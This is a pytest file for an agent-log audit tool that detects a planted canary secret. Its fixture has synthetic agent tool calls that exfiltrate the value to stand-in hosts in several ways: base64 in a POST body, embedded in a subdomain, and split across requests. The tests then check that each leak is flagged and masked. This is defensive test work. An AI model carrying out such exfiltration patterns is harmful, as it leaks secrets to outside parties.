"""Canaries through a whole audit: a hit decides alone, and the value stands nowhere."""

from __future__ import annotations

import base64
import json

import pytest

from afteraction.audit import Audit
from afteraction.audit.canary_step import canaries, seal
from afteraction.lake import VaultError, query
from afteraction.records.settings import PlantedValue, Settings, SettingsError

VALUE = "ntk_" + "Rm7wQz4LxT" + "2vKc9HsYb5"
PLANTED = PlantedValue(name="wiki-note", owner="casey")


def call(session, at, tool, args, result):
    return json.dumps(
        {"session_id": session, "agent_id": "helper", "call_id": f"c{at}", "tool": tool, "args": args,
         "result": result, "time": f"2026-11-02T10:0{at}:00Z", "status": "ok"}
    )  # fmt: skip


@pytest.fixture(scope="module")
def home(tmp_path_factory):
    at = tmp_path_factory.mktemp("planted")
    seal(at, PLANTED.name, VALUE)
    said = {"session_id": "sent", "role": "user", "text": f"What is {VALUE}?", "time": "2026-11-02T09:00:00Z"}
    lines = [
        json.dumps(said),
        call("read", 1, "read_file", {"path": "wiki/notes.md"}, f"keep: {VALUE}"),
        call("sent", 2, "http_post", {"url": "https://in.example.net/x", "body": base64.b64encode(
            b"--" + VALUE.encode()).decode()}, "ok"),
        call("host", 3, "fetch", {"url": f"https://{VALUE.lower()}.drop.example.net/"}, "ok"),
        call("split", 4, "http_post", {"url": "https://in.example.net/x", "body": VALUE[:12]}, "ok"),
        call("split", 5, "http_post", {"url": "https://in.example.net/x", "body": VALUE[12:]}, "ok"),
        call("clean", 6, "http_post", {"url": "https://in.example.net/x", "body": "nothing"}, "ok"),
    ]  # fmt: skip
    log = at / "log.jsonl"
    log.write_text("\n".join(lines) + "\n")
    Audit(at, Settings(canaries=(PLANTED,))).run([log])
    log.unlink()
    return at


def test_every_hit_is_critical_and_opens_a_ticket(home):
    rows = query(home, "SELECT session_id, level, ticketed FROM action_risk ORDER BY session_id, seq").rows()
    hit = {session for session, level, ticketed in rows if level == "critical" and ticketed}
    assert hit == {"read", "sent", "host", "split"}
    found = query(
        home,
        "SELECT DISTINCT severity, confidence, evidence->>'canary' FROM findings WHERE detector = 'canary'",
    )
    assert found.rows() == [("critical", "high", "wiki-note")]
    assert sum(level == "critical" for session, level, _ in rows if session == "split") == 2


def test_the_value_stands_nowhere_in_the_clear(home):
    for file in home.rglob("*"):
        if file.is_file():
            content = file.read_bytes().lower()
            assert VALUE.lower().encode() not in content, file
            assert VALUE[4:].encode().lower() not in content, file
    for table in ("actions", "sessions", "flows", "findings", "action_risk", "tickets"):
        shown = query(home, f"SELECT * FROM {table}").write_ndjson().lower()
        assert VALUE.lower() not in shown, table
        assert base64.b64encode(b"--" + VALUE.encode()).decode().lower()[4:] not in shown, table


def test_pieces_are_masked_too(home):
    shown = query(home, "SELECT args FROM actions WHERE session_id = 'split'")["args"].to_list()
    assert all("[CANARY:fp_" in text and VALUE[:12] not in text for text in shown)


def test_where_a_value_comes_from(tmp_path, monkeypatch):
    (tmp_path / "note.txt").write_text(VALUE + "\r\n")
    monkeypatch.setenv("PLANTED_VALUE", VALUE)
    seal(tmp_path, "sealed", VALUE)
    planted = (
        PlantedValue(name="sealed", owner="casey"),
        PlantedValue(name="file", owner="casey", value_file="note.txt"),
        PlantedValue(name="env", owner="casey", value_env="PLANTED_VALUE"),
    )
    assert [one.value for one in canaries(tmp_path, planted)] == [VALUE] * 3
    assert (tmp_path / "keys" / "canaries" / "sealed.sealed").stat().st_mode & 0o777 == 0o600


@pytest.mark.parametrize(
    "planted",
    [
        {"value_env": "NO_SUCH_VARIABLE"},
        {"value_file": "missing.txt"},
        {"value_file": "short.txt"},
        {"value_file": "binary.txt"},
        {},
    ],
)
def test_a_value_that_cannot_be_had_is_said_in_a_sentence(tmp_path, planted):
    (tmp_path / "short.txt").write_text("shortie")
    (tmp_path / "binary.txt").write_bytes(b"\xff\xfe" * 20)
    with pytest.raises(SettingsError, match="canary note") as error:
        canaries(tmp_path, (PlantedValue(name="note", owner="casey", **planted),))
    assert "shortie" not in str(error.value)


def test_a_sealed_value_of_another_name_does_not_open(tmp_path):
    seal(tmp_path, "one", VALUE)
    folder = tmp_path / "keys" / "canaries"
    (folder / "one.sealed").rename(folder / "two.sealed")
    with pytest.raises(VaultError):
        canaries(tmp_path, (PlantedValue(name="two", owner="casey"),))


@pytest.mark.parametrize("given", [{"name": "../x"}, {"owner": " "}, {"value_env": "A", "value_file": "b"}])
def test_settings_that_say_too_little_or_too_much_are_refused(given):
    with pytest.raises(ValueError, match=r"canary|name"):
        PlantedValue(**{"name": "note", "owner": "casey", **given})
